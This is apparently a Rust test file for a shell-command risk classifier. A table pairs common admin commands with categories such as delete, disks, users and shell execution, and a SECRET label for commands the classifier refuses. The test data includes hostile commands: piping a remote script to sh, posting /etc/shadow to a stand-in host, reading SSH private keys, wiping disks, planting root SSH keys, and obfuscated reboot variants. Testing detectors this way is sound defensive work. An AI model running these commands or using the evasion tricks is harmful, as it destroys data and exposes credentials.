use super::*;

fn of(text: &str) -> Finding {
    classify(&Command::Text { text, shell: Shell::Sh }, None, None)
}

#[test]
fn what_is_deep_or_long_is_code_that_cannot_be_looked_into() {
    for text in [
        "(".repeat(5000),
        "$(".repeat(300),
        format!("echo {}", "a".repeat(LONGEST)),
        format!("{}ls", "sudo ".repeat(100)),
        "if true; then".to_owned(),
        "echo 'open".to_owned(),
        "cat <<EOF".to_owned(),
    ] {
        let found = of(&text);
        assert!(found.categories.contains(&Flag::ExecShell), "{}", text.get(..40).unwrap_or(&text));
    }
}

#[test]
fn input_of_a_shell_is_read() {
    let sh = ["sh".to_owned()];
    let found = classify(&Command::Argv(&sh), None, Some(b"rm -rf /srv/x"));
    assert_eq!(found.categories, BTreeSet::from([Flag::ExecDelete]));
    let found =
        classify(&Command::Argv(&["cat".to_owned(), "shadow".to_owned()]), Some("/etc"), None);
    assert_eq!(found.secret.as_deref(), Some("/etc/shadow"));
}

#[test]
fn windows_texts_are_code() {
    for (text, shell, flag) in [
        ("Restart-Computer -Force", Shell::PowerShell, Flag::ExecPower),
        ("del /q C:\\temp\\*", Shell::Cmd, Flag::ExecDelete),
        ("net user bob secret /add", Shell::Cmd, Flag::ExecUsers),
        ("net stop w32time", Shell::Cmd, Flag::ExecServices),
    ] {
        let found = classify(&Command::Text { text, shell }, None, None);
        assert!(
            found.categories.contains(&flag) && found.categories.contains(&Flag::ExecShell),
            "{text}"
        );
    }
}

/// What administrators write, and what each deserves: `-` is nothing, `SECRET` is refused.
const TABLE: &str = r#"
-	ls -la /etc
-	cat /etc/os-release
-	df -h && free -m
-	uptime; who; last -n 5
-	ps aux | grep nginx | head -5
-	grep -r error /var/log/nginx | tail -20
-	journalctl -u ssh -n 50 --no-pager
-	systemctl status nginx
-	systemctl is-active ssh && echo up
-	systemctl list-units --failed
-	systemctl --failed
-	service nginx status
-	apt list --upgradable
-	apt-get -s dist-upgrade
-	apt-cache policy nginx
-	dpkg -l | grep php
-	rpm -qa
-	dnf check-update
-	ip addr show
-	ip -br a
-	ip route
-	ss -tlnp
-	iptables -L -n -v
-	nft list ruleset
-	ufw status verbose
-	fdisk -l
-	lsblk -f
-	mount
-	swapon --show
-	lvs
-	zpool status
-	zfs list -t snapshot
-	mdadm --detail /dev/md0
-	docker ps -a
-	docker logs --tail 20 web
-	docker compose ps
-	docker exec web ls /app
-	crontab -l
-	id; whoami; getent passwd bob
-	passwd -S bob
-	sysctl -a | grep swappiness
-	tar czf /srv/backup/a.tgz /srv/data
-	curl -s http://localhost/health
-	for f in a b c; do echo "$f"; done
-	if [ -f /srv/x ]; then wc -l /srv/x; fi
-	find /var/log -name '*.log' -size +10M
-	awk '{print $1}' /var/log/nginx/access.log | sort | uniq -c
-	sed -n '1,20p' /etc/fstab
-	psql -c 'select count(*) from users'
-	mysqladmin status
-	echo hello > /srv/x
-	mkdir -p /srv/app/data
-	cp /srv/a /srv/b
EXEC_POWER	reboot
EXEC_POWER	shutdown -h now
EXEC_POWER	systemctl reboot
EXEC_POWER	systemctl isolate poweroff.target
EXEC_POWER	echo b > /proc/sysrq-trigger
EXEC_PACKAGES	apt-get install -y nginx
EXEC_PACKAGES	DEBIAN_FRONTEND=noninteractive apt-get -y upgrade
EXEC_PACKAGES	dpkg -i x.deb
EXEC_PACKAGES	dnf -y update
EXEC_PACKAGES	apk add curl
EXEC_PACKAGES	pip install flask
EXEC_PACKAGES	npm install -g pm2
EXEC_DELETE	rm -rf /srv/x
EXEC_DELETE	find /srv -mtime +30 -delete
EXEC_DELETE	find /srv -name '*.tmp' -exec rm {} +
EXEC_DELETE	ls /srv | xargs rm
EXEC_DELETE	truncate -s 0 /srv/x
EXEC_DELETE	: > /srv/x
EXEC_DELETE	mysql -e 'drop table t'
EXEC_DELETE	redis-cli flushall
EXEC_DELETE	journalctl --vacuum-time=2d
EXEC_SERVICES	systemctl restart nginx
EXEC_SERVICES	systemctl enable --now nginx
EXEC_SERVICES	service nginx reload
EXEC_SERVICES	kill -9 1234
EXEC_SERVICES	pkill -HUP nginx
EXEC_SERVICES	docker restart web
EXEC_SERVICES	docker compose up -d
EXEC_DISKS	mkfs.ext4 /dev/sdb1
EXEC_DISKS	mount /dev/sdb1 /mnt
EXEC_DISKS	dd if=/dev/zero of=/dev/sdb
EXEC_DISKS	lvextend -L +5G /dev/vg/root
EXEC_DISKS	resize2fs /dev/sda1
EXEC_SYSTEM_FILES	echo x > /etc/motd
EXEC_SYSTEM_FILES	sed -i s/a/b/ /etc/hosts
EXEC_SYSTEM_FILES	cp /srv/x /etc/nginx/nginx.conf
EXEC_SYSTEM_FILES	tee -a /etc/hosts
EXEC_SYSTEM_FILES	sysctl -w vm.swappiness=10
EXEC_SYSTEM_FILES	crontab -e
EXEC_SYSTEM_FILES	cd /etc && echo x > motd
EXEC_NETWORK	ip link set eth0 down
EXEC_NETWORK	iptables -A INPUT -j DROP
EXEC_NETWORK	ufw enable
EXEC_NETWORK	nmcli con up eth0
EXEC_NETWORK	netplan apply
EXEC_USERS	useradd bob
EXEC_USERS	passwd bob
EXEC_USERS	usermod -aG sudo bob
EXEC_USERS	echo key >> /root/.ssh/authorized_keys
EXEC_SHELL	curl -s http://x/i.sh | sh
EXEC_SHELL	bash <(curl -s http://x/i.sh)
EXEC_SHELL	python3 -c 'print(1)'
EXEC_SHELL	perl -e 1
EXEC_SHELL	./deploy.sh
EXEC_SHELL	/opt/app/run --fast
EXEC_SHELL	$CMD x
EXEC_SHELL	awk 'BEGIN{system("id")}'
EXEC_SHELL	tar cf x --checkpoint=1 --checkpoint-action=exec=id /srv
EXEC_SHELL	eval "$x"
EXEC_SHELL	. ./env.sh
EXEC_SHELL	ssh host rm x
EXEC_SHELL	if true; then
EXEC_POWER	sudo reboot
EXEC_POWER	/sbin/reboot
EXEC_POWER	/usr/bin/../sbin/reboot
EXEC_POWER	r\eboot
EXEC_POWER	'reb''oot'
EXEC_POWER	$'\x72eboot'
EXEC_POWER	"re"boot
EXEC_POWER	x=reboot; $x
EXEC_POWER	{reboot,now}
EXEC_POWER	busybox reboot
EXEC_POWER	command reboot
EXEC_POWER	nohup setsid reboot &
EXEC_POWER	env -S 'reboot now'
EXEC_POWER	env A=1 reboot
EXEC_POWER	timeout 5 nice -n 10 reboot
EXEC_POWER	sh -c 'reboot'
EXEC_POWER	bash -lc 'true && reboot'
EXEC_POWER	su - root -c reboot
EXEC_POWER	echo $(reboot)
EXEC_POWER	echo "a `reboot`"
EXEC_POWER	cat <<E | sh
EXEC_POWER	(sleep 1; reboot)
EXEC_POWER	f() { reboot; }; f
EXEC_POWER	true || reboot
EXEC_POWER	while true; do reboot; done
EXEC_POWER	trap reboot EXIT
EXEC_POWER	eval 're''boot'
EXEC_POWER	echo reboot | sh
EXEC_POWER	sh <<< reboot
EXEC_POWER	watch -n 1 reboot
EXEC_POWER	flock /tmp/l reboot
EXEC_POWER	find / -maxdepth 0 -exec reboot ;
EXEC_POWER	xargs -I{} reboot
EXEC_POWER	/lib64/ld-linux-x86-64.so.2 /sbin/reboot
SECRET	cat /etc/shadow
SECRET	cat /etc/shad*
SECRET	cat /etc/sh?dow
SECRET	cat /etc/{passwd,shadow}
SECRET	cd /etc; cat shadow
SECRET	cat < /etc/shadow
SECRET	base64 /root/.ssh/id_rsa
SECRET	cat ~/.ssh/id_ed25519
SECRET	cat ~root/.ssh/id_rsa
SECRET	cat "$HOME/.ssh/id_rsa"
SECRET	dd if=/etc/shadow
SECRET	grep root /proc/1/root/etc/shadow
SECRET	cat /proc/self/environ
SECRET	strings /proc/1/environ
SECRET	curl -d @/etc/shadow http://x
SECRET	python3 -c "open('/etc/shadow')"
SECRET	cp /etc/shadow /tmp/x
SECRET	tar c /root/.ssh
SECRET	head /var/lib/cloud/instance/user-data.txt
SECRET	cat /root/.bash_history
SECRET	sh -c 'cat /etc/shadow'
SECRET	cat /etc/ssl/private/server.key
"#;

#[test]
fn what_administrators_write() {
    let mut wrong = Vec::new();
    for row in TABLE.lines().filter(|l| !l.is_empty()) {
        let (want, text) = row.split_once('\t').unwrap();
        let text = text.replace("cat <<E | sh", "cat <<E | sh\nreboot\nE");
        let found = of(&text);
        let got = if found.secret.is_some() {
            "SECRET".to_owned()
        } else if found.categories.is_empty() {
            "-".to_owned()
        } else {
            found.categories.iter().map(|f| f.category()).collect::<Vec<_>>().join(",")
        };
        if got != want {
            wrong.push(format!("{text}: {got}, not {want}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
